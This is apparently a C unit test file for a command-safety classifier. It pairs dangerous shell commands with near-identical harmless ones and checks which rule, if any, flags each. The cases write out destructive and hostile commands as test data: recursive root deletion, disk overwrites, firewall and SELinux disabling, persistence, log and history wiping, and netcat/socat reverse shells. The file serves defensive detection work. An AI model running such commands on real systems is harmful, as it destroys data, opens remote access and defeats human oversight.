/* Each rule at its borders: the command that is one, and beside it the one that differs in a letter
 * and is not.
 *
 * SPDX-License-Identifier: MIT
 */
#include "base/alloc.h"
#include "harness/test.h"
#include "policy/danger.h"

struct border {
    const char *command, *rule; /* NULL: passes */
};

static void expect(const struct border *cases, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        struct danger danger = { .rule = NULL };
        bool found = danger_find(str_from(cases[i].command), &danger);
        const char *rule = found ? danger.rule : "", *wanted = cases[i].rule ? cases[i].rule : "";

        if (strcmp(rule, wanted) != 0)
            test_case_failed("\"%s\" instead of \"%s\": %s", rule, wanted, cases[i].command);
        else if (found && (!danger.about[0] || danger.about[strlen(danger.about) - 1] != '.'))
            test_case_failed("no sentence for %s: %s", rule, danger.about);
        else
            test_case_passed();
    }
}

#define ROOT  "recursive_delete_of_root"
#define DISK  "disk_overwritten"
#define MODE  "permissions_of_root"
#define GUARD "protection_disabled"
#define DOWN  "machine_stopped"
#define STAY  "persistence"
#define TRACE "traces_wiped"
#define SHELL "reverse_shell"
#define OURS  "own_controls"

TEST(borders_of_deletion)
{
    static const struct border cases[] = {
        { "rm -r /", ROOT },
        { "rm /", NULL }, /* refuses by itself */
        { "rm -f /", NULL },
        { "srm -r /usr", ROOT },
        { "rm -rf /usr/local", ROOT },
        { "rm -rf /usr/local/lib", NULL },
        { "rm -rf /home/ada/x", NULL },
        { "rm -rf /Users/ada", ROOT },
        { "rm -rf /opt", ROOT },
        { "rm -rf /opt/x", NULL },
        { "rm -rf /tmp", NULL },
        { "rm -rf x/..", ROOT },
        { "rm -rf x/../y", NULL },
        { "rm -rf ./..", ROOT },
        { "rm -rf .hidden", NULL },
        { "rm -rf /.", ROOT },
        { "rm -rf /..", ROOT },
        { "rm --no-preserve-root x", ROOT },
        { "rm --recursive=/ x", NULL },
        { "rm -rf -- -x", NULL },
        { "rsync -a --delete x/ ~", ROOT },
        { "rsync -a --del x/ /home", ROOT },
        { "rsync -a x/ /", NULL },
        { "rsync -a --delete x/ .", NULL },
        { "rsync --delete /", NULL },
        { "mv / /tmp", ROOT },
        { "mv /etc/x /tmp", NULL },
        { "mv x /", NULL },
        { "mv ~", NULL },
        { "find ~ -delete", ROOT },
        { "find ~ -print", NULL },
        { "find / -size +1G -delete", NULL },
        { "find / -empty -delete", NULL },
        { "find /tmp -delete", NULL },
        { "find /etc -exec cat {} \\;", NULL },
        { "find / -exec shred {} \\;", ROOT },
    };

    expect(cases, ARRAY_LEN(cases));
}

TEST(borders_of_disks)
{
    static const struct border cases[] = {
        { "mke2fs /dev/vda1", DISK },
        { "mkswap /dev/dm-0", DISK },
        { "badblocks -w /dev/hda", DISK },
        { "truncate -s 0 /dev/nbd0", DISK },
        { "tee /dev/md0", DISK },
        { "tee /dev/null", NULL },
        { "sfdisk /dev/sda", DISK },
        { "sfdisk -l /dev/sda", NULL },
        { "sfdisk --list /dev/sda", NULL },
        { "fdisk disk.img", NULL },
        { "dd if=x of=/dev/disk/by-id/x", DISK },
        { "dd of=/dev/mapper/x", DISK },
        { "dd if=/dev/sda of=x.img", NULL },
        { "dcfldd of=/dev/sda", DISK },
        { "cp x /dev/sda", DISK },
        { "cp /dev/sda x", NULL },
        { "install x /dev/mem", DISK },
        { "cryptsetup luksErase x", DISK },
        { "cryptsetup open x y", NULL },
        { "zpool status", NULL },
        { "nvme format /dev/nvme0", DISK },
        { "lvremove vg/x", DISK },
        { "lvs", NULL },
        { "echo x > /dev/sd?", DISK },
        { "echo x > /dev/tty", NULL },
        { "mkfs.vfat disk.img", NULL },
        { "mkfsx /dev/sda", NULL },
    };

    expect(cases, ARRAY_LEN(cases));
}

TEST(borders_of_rights_and_protection)
{
    static const struct border cases[] = {
        { "chmod -R a+w /etc", MODE },
        { "chmod a+w /etc", NULL },
        { "chmod 755 /", MODE },
        { "chgrp -R x ~", MODE },
        { "chown --recursive x /var", MODE },
        { "chown x /var", NULL },
        { "chattr -R +i /etc", MODE },
        { "setfacl -m u:x:r /etc/sudoers", MODE },
        { "chmod 0777 /dev/sda", MODE },
        { "chmod 755 /etc/hosts", NULL },
        { "chmod g+s /srv/x", MODE },
        { "chmod g-s /srv/x", NULL },
        { "chmod u+x,g-s /srv/x", NULL },
        { "chmod u-s,g+s /srv/x", MODE },
        { "chmod 3755 /x", NULL },
        { "chmod 7755 /x", MODE },
        { "chmod 755", NULL },
        { "ip6tables --flush", GUARD },
        { "iptables -X", GUARD },
        { "iptables -P INPUT DROP", NULL },
        { "iptables --policy INPUT ACCEPT", GUARD },
        { "iptables -A INPUT -j ACCEPT", NULL },
        { "ufw reset", GUARD },
        { "ufw enable", NULL },
        { "nft list ruleset", NULL },
        { "setenforce 1", NULL },
        { "setenforce Permissive", GUARD },
        { "modprobe x", GUARD },
        { "lsmod", NULL },
        { "nsenter -t1 -m", GUARD },
        { "nsenter --target=1 -m", GUARD },
        { "nsenter --target 1 -m", GUARD },
        { "nsenter -t 12 -m", NULL },
        { "sysctl kernel.yama.ptrace_scope=0", GUARD },
        { "sysctl net.ipv4.ip_forward=1", NULL },
        { "systemctl mask auditd", GUARD },
        { "systemctl stop dormouse", GUARD },
        { "systemctl stop nginx", NULL },
        { "service ufw stop", GUARD },
        { "service ufw status", NULL },
        { "mount -o remount,ro /mnt", NULL },
        { "mount -o remount,exec /proc", GUARD },
        { "echo b > /proc/sysrq-trigger", GUARD },
        { "cat /proc/sys/kernel/ostype", NULL },
        { "echo 1 > /sys/x", GUARD },
    };

    expect(cases, ARRAY_LEN(cases));
}

TEST(borders_of_stopping_staying_and_traces)
{
    static const struct border cases[] = {
        { "halt", DOWN },
        { "poweroff --help", NULL },
        { "shutdown -c", NULL },
        { "telinit 6", DOWN },
        { "init 5", NULL },
        { "loginctl hibernate", DOWN },
        { "systemctl isolate x", DOWN },
        { "systemctl list-units", NULL },
        { "kill 1", DOWN },
        { "kill -9 12 -1", DOWN },
        { "kill -1 1", DOWN },
        { "kill -n 9 1", DOWN },
        { "kill 11", NULL },
        { "kill -15 2", NULL },
        { "killall -u ada", DOWN },
        { "killall systemd", DOWN },
        { "killall systemd-x", NULL },
        { "crontab x", STAY },
        { "crontab -e", STAY },
        { "crontab", NULL },
        { "crontab > x", NULL },
        { "batch", STAY },
        { "atq", NULL },
        { "systemctl link x", STAY },
        { "systemctl import-environment X", STAY },
        { "passwd ada", STAY },
        { "usermod -aG sudo x", STAY },
        { "echo x > ~/.config/autostart/x", STAY },
        { "cat /etc/profile", NULL },
        { "echo x > /etc/profile", STAY },
        { "echo x > /etc/profilex", NULL },
        { "history -w", TRACE },
        { "history 5", NULL },
        { "journalctl --rotate", TRACE },
        { "journalctl -f", NULL },
        { "dmesg --clear", TRACE },
        { "dmesg -T", NULL },
        { "unset HISTSIZE", TRACE },
        { "set +o vi", NULL },
        { "set -o history", NULL },
        { "rm /var/log/x", TRACE },
        { "rm /var/logs", NULL },
        { "cp /dev/null ~/.zsh_history", TRACE },
        { "netcat -c sh 1.2.3.4 9", SHELL },
        { "ncat --sh-exec x h 9", SHELL },
        { "ncat -l 9", NULL },
        { "socat - SYSTEM:sh", SHELL },
        { "socat - exec:sh", SHELL },
        { "socat - TCP:h:80", NULL },
        { "dormouse kill --all", OURS },
        { "dormouse config show", OURS },
        { "dormouse --json backup", OURS },
        { "dormouse runs", NULL },
        { "echo dormouse kill", NULL },
    };

    expect(cases, ARRAY_LEN(cases));
}
